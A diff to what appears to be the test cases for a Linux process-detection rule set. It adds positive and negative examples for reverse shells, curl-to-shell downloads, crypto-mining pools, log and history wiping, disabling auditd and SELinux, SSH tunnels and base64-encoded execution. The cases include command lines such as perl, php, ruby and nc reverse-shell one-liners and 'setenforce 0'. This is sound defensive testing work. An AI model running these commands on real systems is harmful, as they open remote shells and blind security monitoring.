@@ -131,6 +131,7 @@ CASES = {
                 Process("/bin/sh /usr/sbin/ksmtuned"),
                 Process("/usr/sbin/watchdog"),
                 Process("ls /kworker", "ls"),
+                Process("x", "mykworker/0"),
             ],
         ),
         (
@@ -145,6 +146,7 @@ CASES = {
                 # The parent is not known.
                 Process(process_name="migration/0"),
                 Process("-bash", ppid=812),
+                Process(process_name="mykworker/0", ppid=812),
                 Change("x", "kworker/0:0"),
             ],
         ),
@@ -218,6 +220,7 @@ CASES = {
                 Process("/proc/self/exe init", "6"),
                 Process(process_name="6"),
                 Process("7z x a.7z"),
+                Process("x", "mp3"),
             ],
         ),
     ],
@@ -266,6 +269,10 @@ CASES = {
             ],
             [
                 Process("curl -s x", parent_command_line="sh -c curl -s x | bash"),
+                Process("push", parent_command_line="sh -c curl -s x | sh"),
+                Process("shuf", parent_command_line="sh -c curl -s x | sh"),
+                Process("sh", parent_command_line="sh -c curl -s x | shuf"),
+                Process("sh", parent_command_line="sh -c libcurl -s x | sh"),
                 Process("bash", parent_command_line="sshd: alice@pts/0"),
                 Process("bash"),
             ],
@@ -280,12 +287,17 @@ CASES = {
             [
                 Process("sh -c [ $(curl -s x) -eq 200 ]"),
                 Process("sh -c ip=$(curl -s ifconfig.me)"),
+                Process("sh -c medieval $(curl -s x)"),
                 Process("curl -s x"),
             ],
         ),
         (
             [Process("bash /dev/fd/63"), Process("/bin/bash -s /proc/self/fd/12 x")],
-            [Process("cat /dev/fd/63"), Process("bash"), Process("bash /dev/fd0")],
+            [
+                Process("cat /dev/fd/63"),
+                Process("vi bash /dev/fd/6"),
+                Process("bash /dev/fd0"),
+            ],
         ),
         (
             [
@@ -297,6 +309,7 @@ CASES = {
                 Process("sh -c wget http://x/a; echo done"),
                 Process("wget http://x/chmod"),
                 Process("sh -c chmod +x a; ./a"),
+                Process("sh -c libcurl x; ./a"),
             ],
         ),
     ],
@@ -344,7 +357,11 @@ CASES = {
                 Process("sh -c telnet 192.0.2.66 443 | /bin/sh | telnet x 444"),
                 Process("sh -c nc 192.0.2.66 443|bash"),
             ],
-            [Process("sh -c nc x 80 | grep sh"), Process("telnet x"), Process("sh")],
+            [
+                Process("sh -c nc x 80 | grep sh"),
+                Process("telnet x"),
+                Process("sync a | sh"),
+            ],
         ),
         (
             [
@@ -355,6 +372,7 @@ CASES = {
                 Process("socat TCP-LISTEN:80 TCP:x:80"),
                 Process("socat - EXEC:ssh"),
                 Process("bash exec:sh"),
+                Process("xsocat exec:sh"),
             ],
         ),
         (
@@ -368,12 +386,13 @@ CASES = {
                 Process('perl -e use Socket;socket(S,2,1,6);exec("/bin/sh -i");'),
                 Process('php -r $s=fsockopen("192.0.2.66",443);exec("sh <&3");'),
                 Process("/usr/bin/ruby -rsocket -e spawn('sh')"),
+                Process("ruby -e s=TCPSocket.new('x',443);spawn('sh')"),
             ],
             [
                 Process('python3 -c import socket; s.connect(("localhost", 80))'),
                 Process("python3 /opt/socket/spawn.py"),
                 Process("python3 -c import subprocess"),
-                Process("ls -socket exec "),
+                Process("grep python -e socket.*spawn"),
             ],
         ),
         (
@@ -385,6 +404,8 @@ CASES = {
                 Process("bash -i", parent_process_name="sshd"),
                 Process("bash -i"),
                 Process("bash", parent_process_name="nc"),
+                Process("bash -i", parent_process_name="rsync"),
+                Process("vi sh -i", parent_process_name="nc"),
                 Change("bash -i"),
             ],
         ),
@@ -420,6 +441,7 @@ CASES = {
             [
                 Process("vi xmrig.json"),
                 Process(process_name="xml"),
+                Process(process_name="axmrig"),
                 Process("pkill xmrig"),
             ],
         ),
@@ -433,7 +455,7 @@ CASES = {
         ),
         (
             [
-                Process("./a -o gulf.moneroocean.stream:10128"),
+                Process("./a -o gulf.MoneroOcean.stream:10128"),
                 Process("./a --url=xmr.2miners.com:2222"),
             ],
             [Process("vi moneroocean"), Process("./a -o pool.example:3333")],
@@ -517,13 +539,14 @@ CASES = {
             ],
             [
                 Process("find /var/log -name x"),
+                Process("xfind /var/log -delete"),
                 Process("find /tmp -delete"),
                 Process("find /var/log -exec ls {} ;"),
             ],
         ),
         (
             [Process("journalctl --rotate --vacuum-time=1s")],
-            [Process("journalctl -u ssh"), Process("vacuumdb --vacuum-x")],
+            [Process("journalctl -u ssh"), Process("myjournalctl --vacuum-x")],
         ),
     ],
     "history_removal": [
@@ -538,6 +561,7 @@ CASES = {
                 Process("cat /root/.bash_history"),
                 Process("sh -c rm x; cat .bash_history"),
                 Process("rm bash_history.txt"),
+                Process("alarm .bash_history"),
                 Process("vim .bash_history"),
             ],
         ),
@@ -573,7 +597,8 @@ CASES = {
             [
                 Process("bash -c unset HISTTIMEFORMAT"),
                 Process("bash -c set -o history"),
-                Process("grep HISTFILE"),
+                Process("grep reunset HISTFILE", "grep"),
+                Process("reunset HISTFILE"),
             ],
         ),
         (
@@ -610,21 +635,22 @@ CASES = {
             [Process("service auditd stop"), Process("/etc/init.d/rsyslog stop")],
             [
                 Process("service ssh stop"),
+                Process("xservice auditd stop"),
                 Process("service rsyslog restart"),
                 Process("/etc/init.d/rsyslog start"),
             ],
         ),
         (
             [Process("pkill -9 rsyslogd"), Process("killall auditd")],
-            [Process("pkill nginx"), Process("skill auditd"), Process("ls killall")],
+            [Process("pkill nginx"), Process("xpkill auditd"), Process("ls killall")],
         ),
         (
             [Process("auditctl -e 0"), Process("/sbin/auditctl -D")],
-            [Process("auditctl -l"), Process("auditctl -e 1")],
+            [Process("auditctl -l"), Process("auditctl -e 1"), Process("xauditctl -D")],
         ),
         (
             [Process("setenforce 0"), Process("/usr/sbin/setenforce Permissive")],
-            [Process("setenforce 1"), Process("getenforce")],
+            [Process("setenforce 1"), Process("getenforce"), Process("xsetenforce 0")],
         ),
         (
             [Process("/usr/sbin/accton"), Process("accton off")],
@@ -667,20 +693,20 @@ CASES = {
                 Process("ssh -p 22 alice@x"),
                 Process("ssh x ls -R /var"),
                 Process("ssh -L 5432:localhost:5432 x"),
-                Process("sshd -D"),
+                Process("vi ssh -R 1"),
                 Process("/usr/sbin/sshd -D 1"),
             ],
         ),
         (
             [
-                Process("ssh -o RemoteForward=8080 x"),
+                Process("/usr/bin/ssh -o RemoteForward=8080 x"),
                 Process("ssh -oDynamicForward=1080 x"),
             ],
-            [Process("ssh -o LocalForward=1 x"), Process("vi RemoteForward")],
+            [Process("ssh -o LocalForward=1 x"), Process("vi ssh RemoteForward")],
         ),
         (
-            [Process("./chisel client x R:socks"), Process(process_name="frpc")],
-            [Process("vi chisel"), Process("frp")],
+            [Process("./Chisel client x R:socks"), Process(process_name="frpc")],
+            [Process("vi chisel"), Process("frp"), Process("achisel")],
         ),
     ],
     "encoded_command": [
@@ -695,6 +721,7 @@ CASES = {
                 Process("sh -c echo aWQ= | base64 -d > x"),
                 Process("sh -c x=$(echo $P | base64 -d) y"),
                 Process("sh -c base64 x | sh"),
+                Process("sh -c base64 -d x | shuf"),
             ],
         ),
         (
@@ -711,14 +738,15 @@ CASES = {
         ),
         (
             [
-                Process("python3 -c import base64;exec(base64.b64decode('eA=='))"),
+                Process("/bin/python3 -c import base64;exec(base64.b64decode(''))"),
                 Process("perl -MMIME::Base64 -e eval(decode_base64('eA=='))"),
-                Process("php -r system(base64_decode('aWQ='));"),
+                Process("php -r SYSTEM(base64_decode('aWQ='));"),
             ],
             [
                 Process("python3 -c print(base64.b64decode('eA=='))"),
                 Process("python3 -c exec(x)"),
                 Process("python3 exec/b64decode.py"),
+                Process("vi python -c exec b64decode"),
             ],
         ),
     ],
@@ -737,6 +765,9 @@ CASES = {
                 ),
                 Process("/usr/sbin/apache2", parent_process_name="apache2"),
                 Process("sh -c id"),
+                Process("push", parent_process_name="nginx"),
+                Process("shuf", parent_process_name="nginx"),
+                Process("sh", parent_process_name="mynginx"),
                 Change("sh -c id"),
             ],
         ),
@@ -748,7 +779,8 @@ CASES = {
             ],
             [
                 Process("id", parent_process_name="bash"),
-                Process("rotatelogs x", parent_process_name="apache2"),
+                Process("idle", parent_process_name="apache2"),
+                Process("grid", parent_process_name="apache2"),
                 Process("id"),
             ],
         ),
